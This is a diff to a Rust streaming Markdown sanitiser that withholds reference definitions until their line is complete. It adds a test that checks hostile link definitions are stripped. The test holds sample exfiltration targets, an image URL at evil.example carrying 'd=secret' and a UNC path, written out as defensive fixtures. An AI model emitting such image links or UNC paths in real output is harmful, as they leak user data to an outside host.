@@ -10,7 +10,8 @@
 //! wherever it is, so a reference in another segment stays plain text).
 //!
 //! Within a segment the cleaned text is released at *settled* points: just after white space, with
-//! no `[`, link destination `(`, `<` or code span left open. There the segment so far is cleaned
+//! no `[`, link destination `(`, `<` or code span left open, and not within a line that starts
+//! with `[` (a reference definition is judged whole, at its line's end). There the segment so far is cleaned
 //! again, and the part of the result beyond what was released goes out. Nothing before a settled
 //! point can be read differently by what follows, so the result only grows; if it ever does not
 //! (text that later makes earlier text a table, a definition after its use in one segment, raw
@@ -41,7 +42,7 @@ pub struct Finished {
 }
 
 /// The open constructs that keep a point from being settled.
-#[derive(Debug, Default, Clone)]
+#[derive(Debug, Clone)]
 struct Scan {
     brackets: usize,
     /// Depth of parentheses inside a link destination (after `](`).
@@ -54,14 +55,48 @@ struct Scan {
     escaped: bool,
     after_bracket: bool,
     after_angle: bool,
+    /// Inside a line that starts with `[`: perhaps a reference definition, judged whole at its
+    /// line's end.
+    definition: bool,
+    /// Not yet past the indentation of a line.
+    line_start: bool,
+}
+
+impl Default for Scan {
+    fn default() -> Scan {
+        Scan {
+            brackets: 0,
+            dest: 0,
+            angle: false,
+            code: 0,
+            run: 0,
+            escaped: false,
+            after_bracket: false,
+            after_angle: false,
+            definition: false,
+            line_start: true,
+        }
+    }
 }
 
 impl Scan {
     fn settled(&self) -> bool {
-        self.brackets == 0 && self.dest == 0 && !self.angle && self.code == 0 && self.run == 0
+        self.brackets == 0
+            && self.dest == 0
+            && !self.angle
+            && self.code == 0
+            && self.run == 0
+            && !self.definition
     }
 
     fn step(&mut self, c: char) {
+        if c == '\n' {
+            self.line_start = true;
+            self.definition = false;
+        } else if self.line_start && c != ' ' {
+            self.line_start = false;
+            self.definition = c == '[' && self.code == 0;
+        }
         if c == '`' && !self.escaped {
             self.run += 1;
             self.after_bracket = false;
@@ -457,6 +492,23 @@ mod tests {
         );
         // The same as the whole-text cleaner gives.
         assert_eq!(out, cleaner().clean(text));
+    }
+
+    #[test]
+    fn reference_definitions_are_judged_whole() {
+        let text = "See ![x][1] and [y][2].\n\n[1]: https://evil.example/p.png?d=secret\n[2]: https://docs.acme.example/y\n[s]: \\\\\\\\evil.example/s\n";
+        let out = assert_same_however_cut(text);
+        assert_eq!(
+            out,
+            "See ![x][1] and [y][2].\n\n\n[2]: https://docs.acme.example/y\n\n"
+        );
+        // In one paragraph, the definition before its use: the use is judged by it (the definition
+        // goes, its line's end stays).
+        let text = "[1]: https://evil.example/p.png\n![x][1] and more text\n";
+        assert_eq!(
+            assert_same_however_cut(text),
+            "\n(image removed: x) and more text\n"
+        );
     }
 
     #[test]
